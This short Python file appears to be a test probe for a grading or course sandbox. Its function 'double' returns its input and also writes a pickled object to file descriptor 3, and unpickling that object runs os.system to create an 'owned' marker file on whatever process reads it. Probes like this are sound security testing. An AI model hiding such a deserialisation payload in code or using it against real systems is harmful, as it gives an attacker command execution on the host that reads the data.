"""Sends a pickle that runs a command where it is read."""
import struct


def send(data):
    os.write(3, struct.pack("<I", len(data)) + data)


import pickle


class Command:
    def __reduce__(self):
        return os.system, (f"touch {COURSE}/owned",)


def double(x):
    send(pickle.dumps([3, "value", Command()]))
    return x
